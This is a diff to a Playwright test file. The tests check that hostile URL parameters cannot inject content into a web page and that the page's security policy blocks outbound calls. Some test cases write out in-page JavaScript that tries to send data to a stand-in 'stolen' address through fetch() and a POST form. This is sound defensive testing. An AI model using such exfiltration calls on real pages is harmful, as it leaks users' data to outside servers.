@@ -3,7 +3,6 @@
 import json
 from urllib.parse import quote
 
-import pytest
 from playwright.sync_api import expect
 
 HOSTILE = [
@@ -61,27 +60,27 @@ def test_a_file_that_is_refused_is_not_quoted(page):
 def test_an_address_cannot_bring_anything_into_the_page(page):
     address = page.url.split("?")[0]
     parameters = ("view", "__theme", "__lang", "deep_link", "session_hash", "strokes")
-    for text in HOSTILE:
+    for text in ("".join(HOSTILE), "".join(reversed(HOSTILE))):
         query = "&".join(f"{parameter}={quote(text)}" for parameter in parameters)
         page.goto(f"{address}?{query}#{quote(text)}")
         page.locator("#pad canvas").wait_for()
         assert_unharmed(page)
 
 
-@pytest.mark.parametrize(
-    "call",
-    [
-        "fetch(there).catch(() => {})",
-        "const form = document.body.appendChild(document.createElement('form'));"
-        "Object.assign(form, {action: there, method: 'post'}).submit()",
-    ],
-)
-def test_even_a_script_in_the_page_could_call_no_other_server(page, call):
-    refused = page.evaluate(
-        f"""there => new Promise((resolve) => {{
-          addEventListener("securitypolicyviolation", (event) => resolve(event.blockedURI));
-          {call};
-        }})""",
-        "https://example.org/stolen",
-    )
-    assert refused == "https://example.org/stolen"
+CALLS = [
+    "fetch(there).catch(() => {})",
+    "const form = document.body.appendChild(document.createElement('form'));"
+    "Object.assign(form, {action: there, method: 'post'}).submit()",
+]
+
+
+def test_even_a_script_in_the_page_could_call_no_other_server(page):
+    for call in CALLS:
+        refused = page.evaluate(
+            f"""there => new Promise((resolve) => {{
+              addEventListener("securitypolicyviolation", (event) => resolve(event.blockedURI));
+              {call};
+            }})""",
+            "https://example.org/stolen",
+        )
+        assert refused == "https://example.org/stolen"
